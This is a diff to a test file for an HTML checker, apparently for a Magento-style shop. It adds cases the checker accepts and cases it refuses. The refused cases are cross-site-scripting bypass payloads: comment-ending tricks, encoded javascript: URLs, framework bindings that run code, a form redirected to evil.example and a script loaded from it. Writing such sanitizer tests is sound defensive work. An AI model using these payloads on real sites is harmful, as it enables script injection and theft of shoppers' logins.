@@ -16,7 +16,9 @@ describe("passes", () => {
     ],
     ["a style element", "<style>.x > .y { color: red }</style><p>x</p>"],
     ["inline svg", '<svg viewBox="0 0 1 1"><path d="M0 0"/><g><circle r="1"/></g></svg>'],
-    ["a comment", "<!-- <b> --><p>x</p>"],
+    ["a comment", "<!-- <b> --><!----><!-- -> - --><p>x</p>"],
+    ["a button that sends the page's form to the shop", '<button form="a" formaction="/x/y?z=1">x</button>'],
+    ["a style in an svg", "<svg><style>.a { fill: red }</style><path/></svg>"],
     ["upper case", "<DIV><P>x</P></DIV>"],
     [
       "a button as Page Builder writes it",
@@ -49,9 +51,49 @@ describe("refuses", () => {
     ["a bare less-than sign", "1 < 2", 'write "&lt;"'],
     ["a style that is never closed", "<style>.x{}", "<style> is never closed"],
     ["a self-closing div", "<div/>x", "<div/> does not close itself"],
+    [
+      "a comment that ends at once in browsers",
+      "<!--><img src=x onerror=alert(1)>-->",
+      "is no comment everywhere",
+    ],
+    ["the same with a hyphen", "<!---><img src=x onerror=alert(1)>-->", "is no comment everywhere"],
+    ["a comment with another end", "<!-- --!><img src=x onerror=alert(1)> -->", "is no comment everywhere"],
+    [
+      "a tag in a style, which is one in an svg",
+      "<svg><style><img src=x onerror=alert(1)></style></svg>",
+      'write "\\3c" for "<"',
+    ],
+    ["a script URL behind zeros", '<a href="&#x0000006A;avascript:alert(1)">x</a>', "script URL"],
+    ["a script URL behind decimal zeros", '<a href="&#0000000106;avascript:alert(1)">x</a>', "script URL"],
+    [
+      "the page's form for another host",
+      '<button form="login" formaction="https://evil.example/">x</button>',
+      'formaction="…" on <button> is refused',
+    ],
+    [
+      "the same without a scheme",
+      '<button formaction="/\t/evil.example">x</button>',
+      'formaction="…" on <button> is refused',
+    ],
+    [
+      "what RequireJS would load for Luma",
+      `<div data-mage-init='{"https://evil.example/x.js":{}}'></div>`,
+      "is code and is refused",
+    ],
+    ["what Luma's Knockout would run", '<p data-bind="text: alert(1)">x</p>', "is code and is refused"],
+    ["the same as a comment", "<!-- ko text: alert(1) --><!-- /ko -->", "is no comment everywhere"],
+    ["what Hyvä's Alpine would run", '<p x-data x-init="alert(1)">x</p>', "is code and is refused"],
+    ["its handlers", '<p @click.window="alert(1)">x</p>', "is code and is refused"],
+    ["its bindings", '<p :class="alert(1)">x</p>', "is code and is refused"],
     ["an svg that moves an attribute", '<svg><animate attributeName="href"/></svg>', "<animate> is refused"],
   ])("%s", (_, html, expected) => {
     expect(checkHtml(html).join("\n")).toContain(expected);
+  });
+
+  it("what a theme's scripts run is let through by the same word as handlers", () => {
+    const html = `<p x-data @click="go()" data-mage-init='{"a":{}}'><!-- ko if: a --><!-- /ko --></p>`;
+    expect(checkHtml(html, ["handlers"])).toEqual([]);
+    expect(checkHtml(html, ["script"]).length).toBe(5);
   });
 
   it("at most ten sentences, and 64 KB", () => {
